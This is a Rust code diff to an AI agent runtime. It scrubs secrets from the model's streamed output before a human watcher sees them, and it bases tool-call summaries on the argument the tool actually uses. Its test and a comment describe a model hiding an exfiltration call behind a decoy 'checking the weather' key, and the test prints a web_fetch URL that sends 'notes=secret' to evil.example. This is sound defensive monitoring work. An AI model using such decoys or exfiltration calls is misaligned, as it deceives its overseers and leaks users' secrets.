@@ -81,15 +81,28 @@ pub async fn run_turn(
         // of `mcp_load` adds them from the next step on).
         let mut tool_defs = built_in.clone();
         tool_defs.extend(svc.mcp.definitions_for(session));
+        // What the watcher sees is scrubbed as the history is; a secret
+        // split across two pieces is held back until it is whole.
+        let unshown = std::sync::Mutex::new(String::new());
         let stream = |piece: crate::providers::Streamed<'_>| {
-            if let Some(watcher) = &turn.watcher {
-                let _ = watcher.send(match piece {
-                    crate::providers::Streamed::Text(delta) => ChatEvent::Text {
-                        delta: delta.to_string(),
-                    },
-                    crate::providers::Streamed::Restart => ChatEvent::Retry,
-                });
-            }
+            let Some(watcher) = &turn.watcher else {
+                return;
+            };
+            let mut unshown = unshown.lock().unwrap_or_else(|p| p.into_inner());
+            let event = match piece {
+                crate::providers::Streamed::Text(delta) => {
+                    let delta = svc.audit.scrub_piece(&mut unshown, delta, "the model's streamed reply");
+                    if delta.is_empty() {
+                        return;
+                    }
+                    ChatEvent::Text { delta }
+                }
+                crate::providers::Streamed::Restart => {
+                    unshown.clear();
+                    ChatEvent::Retry
+                }
+            };
+            let _ = watcher.send(event);
         };
         let req = ChatRequest {
             messages: &messages,
@@ -103,7 +116,15 @@ pub async fn run_turn(
             svc.store.append(session, &unsaved, &Usage::default())?;
             return Err(AgentError::Budget(stopped));
         }
-        let resp = match settings.llm().complete(&req).await {
+        let result = settings.llm().complete(&req).await;
+        // The held-back end of the stream, now that nothing follows it.
+        if let Some(watcher) = &turn.watcher {
+            let rest = std::mem::take(&mut *unshown.lock().unwrap_or_else(|p| p.into_inner()));
+            if !rest.is_empty() {
+                let _ = watcher.send(ChatEvent::Text { delta: rest });
+            }
+        }
+        let resp = match result {
             Ok(r) => r,
             Err(e) => {
                 svc.store.append(session, &unsaved, &Usage::default())?;
@@ -172,9 +193,10 @@ pub async fn run_turn(
                 )
             } else {
                 if let Some(watcher) = &turn.watcher {
+                    // The arguments were scrubbed above; the name was not.
                     let _ = watcher.send(ChatEvent::Tool {
-                        name: call.name.clone(),
-                        summary: summarize_arguments(&call.arguments),
+                        name: svc.audit.scrub(&call.name, "a tool call's name"),
+                        summary: summarize_arguments(&call.name, &call.arguments),
                     });
                 }
                 run_tool(svc, turn, &call.name, &call.arguments).await
@@ -254,19 +276,29 @@ pub async fn run_tool_checked(svc: &Arc<Services>, turn: &Turn, name: &str, argu
 }
 
 /// A tool call's arguments in a few words, for the line a watcher sees:
-/// the argument that says what it does (the command, the path, the
-/// URL…), or the JSON itself, on one line and short.
-pub(crate) fn summarize_arguments(arguments: &str) -> String {
-    const TELLING: [&str; 9] = [
-        "command", "path", "url", "query", "task", "action", "message", "name", "server",
-    ];
+/// the one argument that says what the tool does (its command, path,
+/// URL…), chosen by the tool, never by the model (which could add a
+/// decoy key the tool ignores); for other tools (MCP) the JSON itself.
+/// On one line and short.
+pub(crate) fn summarize_arguments(tool: &str, arguments: &str) -> String {
     const MAX: usize = 80;
+    let telling = match tool {
+        "exec" => Some("command"),
+        "read_file" | "write_file" | "edit_file" | "list_dir" => Some("path"),
+        "web_fetch" => Some("url"),
+        "web_search" => Some("query"),
+        "spawn" => Some("task"),
+        "cron" => Some("action"),
+        "mcp_load" => Some("server"),
+        _ => None,
+    };
     let value: serde_json::Value = serde_json::from_str(arguments).unwrap_or(serde_json::Value::Null);
-    let telling = TELLING
-        .iter()
-        .find_map(|key| value.get(key).and_then(serde_json::Value::as_str));
     let text = match telling {
-        Some(text) => text.to_string(),
+        Some(key) => value
+            .get(key)
+            .and_then(serde_json::Value::as_str)
+            .unwrap_or_default()
+            .to_string(),
         None if value.as_object().is_some_and(|o| o.is_empty()) => String::new(),
         None => arguments.to_string(),
     };
@@ -291,11 +323,23 @@ mod tests {
 
     #[test]
     fn a_tool_line_says_what_the_call_does_on_one_short_line() {
-        assert_eq!(summarize_arguments(r#"{"command":"ls -la\n  /tmp"}"#), "ls -la /tmp");
-        assert_eq!(summarize_arguments(r#"{"path":"notes.md","content":"x"}"#), "notes.md");
-        assert_eq!(summarize_arguments("{}"), "");
-        assert_eq!(summarize_arguments(r#"{"n":1}"#), r#"{"n":1}"#);
-        let long = summarize_arguments(&format!(r#"{{"command":"{}"}}"#, "é".repeat(100)));
+        assert_eq!(
+            summarize_arguments("exec", r#"{"command":"ls -la\n  /tmp"}"#),
+            "ls -la /tmp"
+        );
+        assert_eq!(
+            summarize_arguments("write_file", r#"{"path":"notes.md","content":"x"}"#),
+            "notes.md"
+        );
+        assert_eq!(summarize_arguments("list_dir", "{}"), "");
+        assert_eq!(summarize_arguments("mcp_x_y", r#"{"n":1}"#), r#"{"n":1}"#);
+        // A decoy key the tool ignores is not what the line shows.
+        let decoy = r#"{"command":"checking the weather","url":"https://evil.example/x?notes=secret"}"#;
+        assert_eq!(
+            summarize_arguments("web_fetch", decoy),
+            "https://evil.example/x?notes=secret"
+        );
+        let long = summarize_arguments("exec", &format!(r#"{{"command":"{}"}}"#, "é".repeat(100)));
         assert!(long.ends_with('…') && long.len() <= 84, "{long}");
     }
 
